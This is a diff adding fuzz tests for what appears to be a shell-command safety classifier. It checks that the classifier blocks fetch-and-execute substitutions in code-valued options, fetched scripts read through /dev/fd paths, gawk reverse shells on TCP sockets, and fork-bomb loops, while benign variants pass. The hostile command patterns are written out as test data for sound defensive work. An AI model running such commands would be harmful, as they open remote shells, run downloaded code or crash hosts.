@@ -19,6 +19,7 @@ from __future__ import annotations
 
 import contextlib
 import random
+import shlex
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -292,3 +293,101 @@ def test_a_command_carried_in_an_option_is_judged_like_the_command(template: str
         return      # a harmless command stays harmless, or the carrier is flagged itself
     for nested in _nested_verdicts(template, command, direct):
         assert nested.action.severity >= direct.action.severity, (template, nested.as_dict())
+
+
+# -- code-valued positions, descriptor paths, awk sockets, process loops ----------------------
+
+FETCHING = ["curl -s u", "wget -qO- https://x/a", "curl -fsSL u | base64 -d", "nc host 80"]
+CODE_VALUED = [
+    "python3 -c {}", "bash -c {}", "sh -e -c -- {}", "node -e {}", "perl -e {}", "ruby -e {}",
+    "php -r {}", "pwsh -Command {}", "awk {} data.txt", "sed -e {} notes.txt",
+    "git -c core.pager={} log", "ssh -o ProxyCommand={} host", "flock /tmp/l -c {}",
+    "watch {}", "env -S {}", "vim -c {} notes.txt", "PAGER={} git log", "script -qc {}",
+    "tar -xf a.tar --to-command={}",
+]
+"""Commands whose argument in place of `{}` is code, whatever fills it."""
+SUBSTITUTIONS = ['"$({})"', "$({})", '"`{}`"', '"$(cat <({}))"']
+
+
+def _both_parsers(command: str) -> list[Verdict]:
+    return [classify(command, parser=parser) for parser in ("auto", "tokenizer")]
+
+
+@FUZZ
+@given(st.sampled_from(CODE_VALUED), st.sampled_from(SUBSTITUTIONS), st.sampled_from(FETCHING))
+def test_a_fetching_substitution_in_a_code_position_is_blocked(template: str, spelling: str,
+                                                               fetch: str) -> None:
+    """A code-valued option is code: filled by a substitution that fetches, it runs what
+    was fetched. The same text quoted into a literal argument stays a pass."""
+    command = template.format(spelling.format(fetch))
+    for verdict in _both_parsers(command):
+        assert verdict.action is Action.BLOCK, (command, verdict.as_dict())
+    for verdict in _both_parsers("printf '%s\\n' " + shlex.quote(command)):
+        assert verdict.action is Action.PASS, (command, verdict.as_dict())
+
+
+SCRIPT_READERS = ["source {}", ". {}", "bash {}", "sh -x {}", "python3 {}", "perl {}",
+                  "node {}", "bash --rcfile {}", "awk -f {} data.txt", "sed -f {} notes.txt"]
+DESCRIPTOR_PATHS = ["<({})", "/dev/fd/3 3< <({})", "/dev/stdin < <({})",
+                    "/proc/self/fd/0 < <({})"]
+
+
+@FUZZ
+@given(st.sampled_from(SCRIPT_READERS), st.sampled_from(DESCRIPTOR_PATHS),
+       st.sampled_from(FETCHING), st.booleans())
+def test_a_descriptor_of_a_fetching_process_substitution_is_not_run(
+        template: str, path: str, fetch: str, opened_by_exec: bool) -> None:
+    """A /dev/fd path from a process substitution is the substitution's output, whether the
+    command opens it or an earlier `exec` did; local content stays allowed."""
+    if opened_by_exec:
+        command = f"exec 3< <({fetch}); " + template.format("/dev/fd/3")
+    else:
+        command = template.format(path.format(fetch))
+    for verdict in _both_parsers(command):
+        assert verdict.action is Action.BLOCK, (command, verdict.as_dict())
+    local = command.replace(fetch, "cat local.txt")
+    for verdict in _both_parsers(local):
+        assert verdict.action is not Action.BLOCK, (local, verdict.as_dict())
+
+
+SOCKETS = ['"/inet/tcp/0/10.0.0.1/4444"', '"/inet4/tcp/4444/0/0"', '"/inet6/udp/0/h/53"',
+           '"/inet/" "tcp/0/h/1"']
+RUNS_A_COMMAND = ["system(c)", "while ((c |& getline l) > 0) print l |& s",
+                  "while ((c | getline l) > 0) print l |& s", "{ cmd = c; cmd |& getline }"]
+
+
+@FUZZ
+@given(st.sampled_from(["awk", "gawk"]), st.sampled_from(SOCKETS),
+       st.sampled_from(RUNS_A_COMMAND))
+def test_an_awk_program_on_a_socket_that_runs_commands_is_a_reverse_shell(
+        awk: str, socket: str, runner: str) -> None:
+    program = f"BEGIN {{ s = {socket}; while ((s |& getline c) > 0) {runner} }}"
+    for verdict in _both_parsers(f"{awk} '{program}'"):
+        assert (verdict.action, verdict.rule) == (Action.BLOCK, "reverse_shell"), program
+    echo = f"BEGIN {{ s = {socket}; while ((s |& getline c) > 0) print c |& s }}"
+    for verdict in _both_parsers(f"{awk} '{echo}'"):
+        assert verdict.action is Action.PASS, echo        # a socket alone runs nothing
+    for verdict in _both_parsers(f"{awk} '{echo}' | sh"):
+        assert verdict.action is Action.BLOCK, echo       # ... but its output is fetched
+
+
+UNBOUNDED_LOOPS = ["while true", "while :", "while [ 1 ]", "while [[ 1 ]]", "while ((1))",
+                   "while test 1", "until false", "until [ 1 = 0 ]", "while sleep 0",
+                   "while command true", "for ((;;))", "for i in {1..100000}",
+                   "for i in $(seq 100000)", "for ((i = 0; i < 100000; i++))"]
+BOUNDED_LOOPS = ["for i in {1..8}", "for i in $(seq 8)", "for ((i = 0; i < 8; i++))",
+                 "while [ 1 = 0 ]", "until true", "for f in *.txt", "while read -r f"]
+BACKGROUND_STARTS = ["sh &", "bash -c 'sleep 9' &", "{ ./a.sh & };", "(sh &);", "nohup sh &",
+                     "bash -c '$0 &';", "eval 'sh &';", "sh & sh &"]
+
+
+@FUZZ
+@given(st.sampled_from(UNBOUNDED_LOOPS), st.sampled_from(BOUNDED_LOOPS),
+       st.sampled_from(BACKGROUND_STARTS))
+def test_a_loop_that_starts_processes_without_bound_is_a_fork_bomb(
+        unbounded: str, bounded: str, start: str) -> None:
+    for verdict in _both_parsers(f"{unbounded}; do {start} done"):
+        assert verdict.rule == "fork_bomb", (unbounded, start, verdict.as_dict())
+    for command in (f"{unbounded}; do {start} wait; done", f"{bounded}; do {start} done"):
+        for verdict in _both_parsers(command):
+            assert verdict.rule != "fork_bomb", (command, verdict.as_dict())
